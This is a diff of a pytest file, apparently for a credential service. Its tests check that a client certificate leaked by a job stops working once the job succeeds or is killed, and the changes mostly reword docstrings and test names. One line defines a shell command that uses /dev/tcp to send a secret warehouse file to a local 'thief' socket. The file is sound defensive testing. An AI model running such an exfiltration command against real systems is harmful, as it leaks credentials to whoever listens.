@@ -1,4 +1,4 @@
-"""A client certificate that a job leaks opens the warehouse while the job runs, and nothing once it ended, however it ended."""
+"""A client certificate that a job leaks works while the job runs, and never after its end, however it ended."""
 
 from __future__ import annotations
 
@@ -19,7 +19,7 @@ from worker.stack import Stack
 
 pytestmark = pytest.mark.servers
 LEAK = "exec 3<>/dev/tcp/127.0.0.1/{port}; cat /run/justenough/warehouse.json >&3; read -u 3; true"
-"""It stays until whoever it told hangs up."""
+"""The job runs until the receiver of its secret closes the connection."""
 READ = access("warehouse-api", deliver={"file": {"path": "warehouse.json"}})
 
 
@@ -42,14 +42,14 @@ def leaking(thief: socket.socket) -> dict[str, Any]:
 
 @contextmanager
 def leaked(thief: socket.socket) -> Iterator[Fields]:
-    """What a job leaks, which stays for the length of a block."""
+    """Yield the secret that a job leaks; the job runs for the block."""
     connection, _ = thief.accept()
     with connection, connection.makefile() as lines:
         text = "".join(iter(lines.readline, "}\n")) + "}"
         yield {name: Secret(str(value)) for name, value in json.loads(text).items()}
 
 
-def test_a_leaked_certificate_opens_nothing_once_its_job_succeeded(
+def test_a_leaked_certificate_is_useless_once_its_job_has_succeeded(
     ops: Human, shop: Shop, thief: socket.socket, warehouse: Warehouse
 ) -> None:
     job = ops.launch(leaking(thief))
@@ -68,7 +68,7 @@ def test_a_leaked_certificate_opens_nothing_once_its_job_succeeded(
     shop.assert_dead(seen)
 
 
-def test_nor_once_it_was_killed_and_nothing_of_its_key_is_in_the_ledger(
+def test_a_leaked_certificate_is_useless_once_its_job_was_killed_and_the_ledger_has_nothing_of_its_key(
     ops: Human, auditor: Human, shop: Shop, thief: socket.socket, warehouse: Warehouse
 ) -> None:
     job = ops.launch(leaking(thief))
